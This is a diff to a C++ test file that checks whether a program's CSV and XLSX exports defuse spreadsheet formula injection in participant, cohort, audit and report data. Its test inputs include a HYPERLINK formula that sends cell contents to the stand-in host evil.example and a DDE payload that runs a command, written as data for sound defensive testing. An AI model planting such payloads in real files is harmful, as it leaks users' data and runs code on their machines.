@@ -9,6 +9,7 @@
 
 #include "core/names.hpp"
 #include "core/signature.hpp"
+#include "cells.hpp"
 #include "io/csv.hpp"
 #include "io/export.hpp"
 #include "io/open_badges.hpp"
@@ -17,6 +18,8 @@
 
 using namespace mitra;
 using namespace mitra::io;
+using mitra::io::testing::spreadsheet_cells;
+using mitra::io::testing::starts_formula;
 
 namespace {
 
@@ -52,6 +55,121 @@ TEST_CASE("a CSV field is quoted only when it must be", "[io][export]") {
     CHECK(csv_field("two\nlines") == "\"two\nlines\"");
     CHECK(csv_field(" padded ") == "\" padded \"");
     CHECK(csv_line({"a", "", "b,c"}) == "a,,\"b,c\"\r\n");
+}
+
+TEST_CASE("a text cell a spreadsheet would run as a formula is written after a quote, which reading takes off",
+          "[io][export][formula]") {
+    // A text; as the file holds it. The cases the rule must keep apart.
+    const std::vector<std::pair<std::string, std::string>> cases = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"-Rai", "'-Rai"},
+        {"-12", "'-12"},  // in a text column, even a number
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"'=already", "''=already"},  // a quote of its own before a formula: one more
+        {"''@twice", "'''@twice"},
+        {"O'Neil", "O'Neil"},  // a quote anywhere else: as it is
+        {"'quoted'", "'quoted'"},
+        {"'", "'"},
+        {"''", "''"},
+        {"a=b", "a=b"},
+        {" =x", "\" =x\""},  // a spreadsheet looks at the first character only
+        {"", ""},
+        {"12", "12"},
+    };
+    for (const auto& [text, written] : cases) {
+        INFO("text: [" << text << "]");
+        CHECK(csv_field(text) == written);
+        const auto read = read_csv("name,x\r\n" + written + ",x\r\n", "f.csv");
+        REQUIRE(read.ok());
+        REQUIRE(read.value.rows.size() == 1);
+        CHECK(read.value.rows[0].fields[0].text == text);
+    }
+    SECTION("a number column keeps a plain number, negative too, and guards anything else") {
+        CHECK(csv_field("-12", CsvCell::number) == "-12");
+        CHECK(csv_field("-3.5", CsvCell::number) == "-3.5");
+        CHECK(csv_field("360", CsvCell::number) == "360");
+        CHECK(csv_field("<5", CsvCell::number) == "<5");
+        CHECK(csv_field("-1-1", CsvCell::number) == "'-1-1");
+        CHECK(csv_field("=1+1", CsvCell::number) == "'=1+1");
+        CHECK(csv_field("-", CsvCell::number) == "'-");
+        CHECK(csv_line({"-Rai", "-12"}, {CsvCell::text, CsvCell::number}) == "'-Rai,-12\r\n");
+        const auto read = read_csv("a,b\r\n'-Rai,-12\r\n", "f.csv");
+        REQUIRE(read.ok());
+        CHECK(read.value.rows[0].fields[0].text == "-Rai");
+        CHECK(read.value.rows[0].fields[1].text == "-12");
+    }
+    SECTION("a file typed by hand reads as a spreadsheet shows it: the guarding quote goes, any other stays") {
+        const auto read = read_csv("a,b,c,d\n'=x,''=x,'abc,\"'@x, y\"\n", "f.csv");
+        REQUIRE(read.ok());
+        const auto& f = read.value.rows[0].fields;
+        CHECK(f[0].text == "=x");
+        CHECK(f[1].text == "'=x");
+        CHECK(f[2].text == "'abc");
+        CHECK(f[3].text == "@x, y");
+    }
+}
+
+TEST_CASE("no export leaves a formula at the start of a cell: names, phones, sites, actors, notes, report items",
+          "[io][export][formula]") {
+    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                                               "+cmd|' /C calc'!A0", "@SUM(1+1)", "-Rai", "=1+1,2"};
+    auto no_formula_in = [](const std::string& csv) {
+        const auto cells = spreadsheet_cells(csv);
+        REQUIRE(cells.size() > 8);
+        for (const auto& cell : cells) {
+            INFO("cell: [" << cell << "]");
+            CHECK_FALSE(starts_formula(cell));
+        }
+    };
+    std::vector<Participant> people;
+    for (std::size_t i = 0; i < formulas.size(); ++i) {
+        people.push_back(person("P-00" + std::to_string(i), formulas[i], formulas[(i + 1) % formulas.size()], ""));
+        people.back().phone = "+977 1 555 0100";  // to a spreadsheet a formula too (an intersection), and an error
+    }
+    no_formula_in(participants_csv(people));
+
+    Cohort cohort;
+    cohort.code = "KTM-1";
+    cohort.curriculum_code = "PSF";
+    cohort.site = formulas[0];
+    cohort.time_zone = "@Asia/Kathmandu";
+    cohort.capacity = 20;
+    no_formula_in(cohorts_csv({cohort}));
+
+    std::vector<AuditEntry> entries;
+    for (const auto& f : formulas) entries.push_back({"2026-01-05T10:00:00Z", f, "attendance", "change", f, f, f});
+    no_formula_in(audit_csv(entries));
+
+    ReportTable table;
+    table.name = "=Sheet";
+    table.header = {"country", "enrolled"};
+    for (const auto& f : formulas) table.rows.push_back({f, f});
+    table.rows.push_back({"Nepal", "-3"});
+    const std::string report = tables_csv({table});
+    CHECK(report.find(",-3\r\n") != std::string::npos);  // a figure stays a number
+    auto cells = spreadsheet_cells(report);
+    cells.erase(std::remove(cells.begin(), cells.end(), "-3"), cells.end());
+    for (const auto& cell : cells) {
+        INFO("cell: [" << cell << "]");
+        CHECK_FALSE(starts_formula(cell));
+    }
+
+    ParticipantCompletion done;
+    done.ref = "P-001";
+    done.reason = "-2 sessions short";
+    ModuleCompletion module;
+    module.code = "M01";
+    module.reason = "=1+1";
+    module.attended_minutes = 300;
+    module.required_minutes = 360;
+    done.modules.push_back(module);
+    const std::string completions = completions_csv("KTM-1", {done});
+    no_formula_in(completions);
+    CHECK(completions.find(",300,360,'=1+1\r\n") != std::string::npos);
 }
 
 TEST_CASE("exported participants read back exactly as they were", "[io][export]") {
@@ -124,6 +242,25 @@ TEST_CASE("report tables become one CSV with a byte-order mark and one XLSX shee
     std::size_t files = 0;
     for (const auto& entry : std::filesystem::directory_iterator(dir)) files += entry.is_regular_file();
     CHECK(files == 1);  // the temporary file became the workbook
+
+    SECTION("a cell that looks like a formula is a text cell in the workbook, never a formula") {
+        const auto formulas = dir / "formulas.xlsx";
+        write_xlsx(formulas,
+                   {table("=Sheet", "=1+1", {"=item", "value"},
+                          {{"=HYPERLINK(\"http://evil.example/\",\"Click\")", "+cmd|' /C calc'!A0"},
+                           {"@SUM(1+1)", "-Rai"},
+                           {"Nepal", "-3"}})},
+                   "=title");
+        const std::string cells = shell("unzip -p '" + formulas.string() + "' xl/worksheets/sheet1.xml");
+        REQUIRE_FALSE(cells.empty());
+        CHECK(cells.find("<f>") == std::string::npos);
+        CHECK(cells.find("<f ") == std::string::npos);
+        CHECK(cells.find("<v>-3</v>") != std::string::npos);  // a figure is a number
+        const std::string strings = shell("unzip -p '" + formulas.string() + "' xl/sharedStrings.xml");
+        for (const std::string text : {"=HYPERLINK(\"http://evil.example/\",\"Click\")", "+cmd|' /C calc'!A0",
+                                       "@SUM(1+1)", "-Rai", "=1+1", "=item"})
+            CHECK(strings.find("<t>" + text + "</t>") != std::string::npos);
+    }
     std::filesystem::remove_all(dir);
 }
 
